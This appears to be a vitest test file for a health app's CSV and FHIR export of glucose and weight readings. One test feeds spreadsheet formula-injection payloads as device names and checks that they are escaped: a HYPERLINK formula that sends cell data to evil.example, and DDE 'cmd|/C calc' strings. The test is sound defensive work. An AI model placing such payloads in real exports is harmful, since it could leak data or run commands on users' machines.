/**
 * Readings leaving Carnet: the CSV read back by an RFC 4180 parser written here, with hostile
 * device names and both clock changes; the FHIR Bundle parsed, its codes and units checked per
 * series, kind and unit, its values read back, and the stream checked against the whole Bundle.
 * Both writers are shown to stream: they run on an endless input and are stopped after a few chunks.
 */
import { describe, expect, it } from 'vitest';
import {
  INTERPRETATION_SYSTEM,
  OBSERVATION_CATEGORY_SYSTEM,
  createReadingIds,
  readingToObservation,
  readingsToFhirBundle,
  readingsToFhirBundleJson,
  UCUM_URL,
  type FhirObservation,
  type SeriesReadings,
} from '../../../src/core/export/fhir-observations.ts';
import { READINGS_CSV_COLUMNS, readingsToCsv } from '../../../src/core/export/readings-csv.ts';
import type { Reading, ReadingBound, ReadingKind, ReadingSource, UnitLabel } from '../../../src/core/readings/series.ts';

const DEXCOM: ReadingSource = { importer: 'dexcom-clarity', device: 'Dexcom G7', serial: '111111111111' };

function reading(time: number, value: number, unit: UnitLabel, kind: ReadingKind = 'continuous', bound: ReadingBound = null, source: ReadingSource = DEXCOM): Reading {
  return { time, value, unit, kind, bound, source };
}

function* endless(start: number): Generator<Reading> {
  for (let i = 0; ; i += 1) yield reading(start + i * 300_000, 100 + (i % 50), 'mg/dL');
}

function take<T>(iterable: Iterable<T>, count: number): T[] {
  const out: T[] = [];
  for (const item of iterable) {
    out.push(item);
    if (out.length === count) break;
  }
  return out;
}

/** RFC 4180, strictly: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i += 1;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i += 1;
          break;
        } else {
          field += text[i];
          i += 1;
        }
      }
    } else if (text[i] === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (text[i] === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      field += text[i];
      i += 1;
    }
  }
  expect(field === '' && row.length === 0, 'the file ends with CRLF').toBe(true);
  return rows;
}

// --- CSV ------------------------------------------------------------------------------------------

describe('readingsToCsv', () => {
  it('writes a header and one CRLF-ended line per reading, times in UTC and local with offset', () => {
    const readings = [
      reading(Date.UTC(2025, 9, 26, 0, 30), 5.5, 'mmol/L'), // 02:30 CEST
      reading(Date.UTC(2025, 9, 26, 1, 30), 40, 'mg/dL', 'continuous', 'below'), // 02:30 CET, the second time
      reading(Date.UTC(2025, 2, 30, 1, 0, 0, 250), 92.35, 'kg', 'manual', null, { importer: 'withings', device: null, serial: null }),
    ];
    const lines = [...readingsToCsv(readings, 'Europe/Paris')];
    expect(lines.every((line) => line.endsWith('\r\n'))).toBe(true);
    expect(lines).toEqual([
      'time,local_time,value,unit,kind,bound,importer,device,serial\r\n',
      '2025-10-26T00:30:00.000Z,2025-10-26T02:30:00.000+02:00,5.5,mmol/L,continuous,,dexcom-clarity,Dexcom G7,111111111111\r\n',
      '2025-10-26T01:30:00.000Z,2025-10-26T02:30:00.000+01:00,40,mg/dL,continuous,below,dexcom-clarity,Dexcom G7,111111111111\r\n',
      '2025-03-30T01:00:00.250Z,2025-03-30T03:00:00.250+02:00,92.35,kg,manual,,withings,,\r\n',
    ]);
    // Both readings at 02:30 are told apart, and each local time names its own instant.
    const rows = parseCsv(lines.join('')).slice(1);
    for (const [i, row] of rows.entries()) expect(Date.parse(row[1] as string)).toBe(readings[i]?.time);
  });

  it('quotes by RFC 4180 and never lets a spreadsheet run a formula', () => {
    const hostile: [string, string][] = [
      ['=HYPERLINK("https://evil.example/?"&A1,"Dexcom")', 'serial, with comma'],
      ['+cmd|\' /C calc\'!A0', '-2+3'],
      ['@SUM(1+1)*cmd|\'/C calc\'!A0', '\tTAB'],
      ['Libre "3"\r\nreader', '\rCR'],
    ];
    const readings = hostile.map(([device, serial], i) => reading(1_700_000_000_000 + i, 120, 'mg/dL', 'scan', null, { importer: '=importer', device, serial }));
    const rows = parseCsv([...readingsToCsv(readings, 'UTC')].join(''));
    expect(rows[0]).toEqual([...READINGS_CSV_COLUMNS]);
    for (const [i, row] of rows.slice(1).entries()) {
      expect(row).toHaveLength(9);
      const [device, serial] = hostile[i] as [string, string];
      const expectText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
      expect(row[6]).toBe("'=importer");
      expect(row[7]).toBe(expectText(device));
      expect(row[8]).toBe(expectText(serial));
      for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
    }
    expect(rows[4]?.[7]).toBe('Libre "3"\r\nreader');
  });

  it('streams: an endless input gives its first lines', () => {
    const lines = take(readingsToCsv(endless(Date.UTC(2026, 0, 1)), 'Europe/Paris'), 3);
    expect(lines[0]).toBe('time,local_time,value,unit,kind,bound,importer,device,serial\r\n');
    expect(lines[2]).toBe('2026-01-01T00:05:00.000Z,2026-01-01T01:05:00.000+01:00,101,mg/dL,continuous,,dexcom-clarity,Dexcom G7,111111111111\r\n');
  });

  it('writes offsets of every shape: negative, and of 45 minutes', () => {
    const time = Date.UTC(2025, 6, 1, 12);
    const [, ny] = [...readingsToCsv([reading(time, 100, 'mg/dL')], 'America/New_York')];
    const [, kathmandu] = [...readingsToCsv([reading(time, 100, 'mg/dL')], 'Asia/Kathmandu')];
    expect(ny?.split(',')[1]).toBe('2025-07-01T08:00:00.000-04:00');
    expect(kathmandu?.split(',')[1]).toBe('2025-07-01T17:45:00.000+05:45');
  });
});

// --- FHIR -----------------------------------------------------------------------------------------

const T = Date.UTC(2026, 0, 1, 8);
const glucose: Reading[] = [
  reading(T, 113, 'mg/dL'),
  reading(T + 300_000, 6.3, 'mmol/L'),
  reading(T + 600_000, 118, 'mg/dL', 'scan', null, { importer: 'libreview', device: 'FreeStyle LibreLink', serial: null }),
  reading(T + 900_000, 5.9, 'mmol/L', 'scan', null, { importer: 'libreview', device: null, serial: 'ABC-123' }),
  reading(T + 1_200_000, 131, 'mg/dL', 'blood', null, { importer: 'libreview', device: null, serial: null }),
  reading(T + 1_500_000, 7.25, 'mmol/L', 'manual', null, { importer: 'manual', device: null, serial: null }),
  reading(T + 1_800_000, 40, 'mg/dL', 'continuous', 'below'),
  reading(T + 2_100_000, 22.2, 'mmol/L', 'continuous', 'above'),
];
const weight: Reading[] = [
  reading(T, 81.35, 'kg', 'manual', null, { importer: 'withings', device: 'Body+', serial: '00:24:e4:aa' }),
  reading(T + 86_400_000, 179.2, 'lb', 'manual', null, { importer: 'csv', device: null, serial: null }),
];
const input: SeriesReadings[] = [
  { series: 'glucose', readings: glucose },
  { series: 'weight', readings: weight },
];

/** LOINC code, UCUM code, category, by series, kind and unit: the table the module header states. */
const EXPECTED: [string, string, string][] = [
  ['99504-3', 'mg/dL', 'laboratory'],
  ['105272-9', 'mmol/L', 'laboratory'],
  ['99504-3', 'mg/dL', 'laboratory'],
  ['105272-9', 'mmol/L', 'laboratory'],
  ['2339-0', 'mg/dL', 'laboratory'],
  ['15074-8', 'mmol/L', 'laboratory'],
  ['99504-3', 'mg/dL', 'laboratory'],
  ['105272-9', 'mmol/L', 'laboratory'],
  ['29463-7', 'kg', 'vital-signs'],
  ['29463-7', '[lb_av]', 'vital-signs'],
];

/** FHIR JSON has no empty strings, arrays or objects, and no nulls. */
function expectNoEmpty(value: unknown, path = '$'): void {
  expect(value, path).not.toBeNull();
  if (typeof value === 'string') expect(value.trim(), path).not.toBe('');
  if (Array.isArray(value)) {
    expect(value.length, path).toBeGreaterThan(0);
    value.forEach((item, i) => expectNoEmpty(item, `${path}[${i}]`));
  } else if (typeof value === 'object' && value !== null) {
    expect(Object.keys(value).length, path).toBeGreaterThan(0);
    for (const [key, item] of Object.entries(value)) expectNoEmpty(item, `${path}.${key}`);
  }
}

describe('readingsToFhirBundle', () => {
  const NOW = Date.UTC(2026, 1, 3, 9, 30);
  const text = [...readingsToFhirBundleJson(input, NOW)].join('');
  const bundle = JSON.parse(text) as { resourceType: string; type: string; timestamp: string; entry: { fullUrl: string; resource: FhirObservation }[] };
  const all = [...glucose, ...weight];

  it('streams exactly the JSON of the whole Bundle', () => {
    expect(text).toBe(JSON.stringify(readingsToFhirBundle(input, NOW)));
    expect(bundle).toMatchObject({ resourceType: 'Bundle', type: 'collection', timestamp: '2026-02-03T09:30:00.000Z' });
    expect(bundle.entry).toHaveLength(10);
    expectNoEmpty(bundle);
  });

  it('codes each reading by series, specimen and scale, with UCUM units', () => {
    bundle.entry.forEach(({ resource }, i) => {
      const [loinc, ucum, category] = EXPECTED[i] as [string, string, string];
      expect(resource.resourceType).toBe('Observation');
      expect(resource.status).toBe('final');
      expect(resource.code.coding).toEqual([expect.objectContaining({ system: 'http://loinc.org', code: loinc })]);
      expect(resource.category).toEqual([{ coding: [expect.objectContaining({ system: OBSERVATION_CATEGORY_SYSTEM, code: category })] }]);
      expect(resource.valueQuantity).toMatchObject({ system: UCUM_URL, code: ucum });
    });
    expect(bundle.entry.map((e) => e.resource.valueQuantity.unit)).toEqual(['mg/dL', 'mmol/L', 'mg/dL', 'mmol/L', 'mg/dL', 'mmol/L', 'mg/dL', 'mmol/L', 'kg', 'lb']);
  });

  it('gives back every value, unit as recorded, and time', () => {
    bundle.entry.forEach(({ resource }, i) => {
      const source = all[i] as Reading;
      expect(resource.valueQuantity.value).toBe(source.value);
      expect(Date.parse(resource.effectiveDateTime)).toBe(source.time);
    });
  });

  it('writes a sensor Low and High as off scale, with the comparator', () => {
    const low = bundle.entry[6]?.resource;
    const high = bundle.entry[7]?.resource;
    expect(low?.valueQuantity).toMatchObject({ value: 40, comparator: '<' });
    expect(low?.interpretation).toEqual([{ coding: [{ system: INTERPRETATION_SYSTEM, code: '<', display: 'Off scale low' }] }]);
    expect(high?.valueQuantity).toMatchObject({ value: 22.2, comparator: '>' });
    expect(high?.interpretation?.[0]?.coding?.[0]?.code).toBe('>');
    expect(bundle.entry.filter((e) => e.resource.interpretation !== undefined || e.resource.valueQuantity.comparator !== undefined)).toHaveLength(2);
  });

  it('names the device and serial when known', () => {
    expect(bundle.entry.map((e) => e.resource.device?.display)).toEqual([
      'Dexcom G7 111111111111',
      'Dexcom G7 111111111111',
      'FreeStyle LibreLink',
      'ABC-123',
      undefined,
      undefined,
      'Dexcom G7 111111111111',
      'Dexcom G7 111111111111',
      'Body+ 00:24:e4:aa',
      undefined,
    ]);
  });

  it('has deterministic, unique UUID ids that sort by time', () => {
    const ids = bundle.entry.map((e) => e.resource.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const [i, entry] of bundle.entry.entries()) {
      expect(entry.resource.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(entry.fullUrl).toBe(`urn:uuid:${entry.resource.id}`);
      expect(Number.parseInt(entry.resource.id.replace('-', '').slice(0, 12), 16)).toBe(all[i]?.time);
    }
    expect([...readingsToFhirBundleJson(input, NOW)].join('')).toBe(text);
    // The same reading has the same id alone or in a Bundle; another source at the same time does not.
    expect(readingToObservation('glucose', glucose[0] as Reading).id).toBe(ids[0]);
    const other = readingToObservation('glucose', { ...(glucose[0] as Reading), source: { ...DEXCOM, serial: '222222222222' } });
    expect(other.id).not.toBe(ids[0]);
    expect(other.id.slice(0, 13)).toBe(ids[0]?.slice(0, 13));
    const ids2 = createReadingIds();
    expect(ids2('weight', glucose[0] as Reading)).not.toBe(ids[0]);
  });

  it('an empty export is a Bundle without entry (FHIR forbids an empty array)', () => {
    const empty = [...readingsToFhirBundleJson([{ series: 'glucose', readings: [] }], NOW)].join('');
    expect(empty).toBe(JSON.stringify(readingsToFhirBundle([], NOW)));
    expect(JSON.parse(empty)).toEqual({ resourceType: 'Bundle', type: 'collection', timestamp: '2026-02-03T09:30:00.000Z' });
  });

  it('streams: one chunk per Observation, from an endless input', () => {
    const chunks = take(readingsToFhirBundleJson([{ series: 'glucose', readings: endless(T) }], NOW), 3);
    expect(chunks[0]?.startsWith('{"resourceType":"Bundle","type":"collection","timestamp":"2026-02-03T09:30:00.000Z","entry":[{"fullUrl":"urn:uuid:')).toBe(true);
    expect(chunks[1]?.startsWith(',{"fullUrl":"urn:uuid:')).toBe(true);
    const first = JSON.parse((chunks[0] as string).slice((chunks[0] as string).indexOf('[') + 1)) as { resource: FhirObservation };
    expect(first.resource.valueQuantity.value).toBe(100);
  });

  it('refuses a unit that is not the series’', () => {
    expect(() => readingToObservation('weight', glucose[0] as Reading)).toThrow(/not a unit of weight/);
  });
});
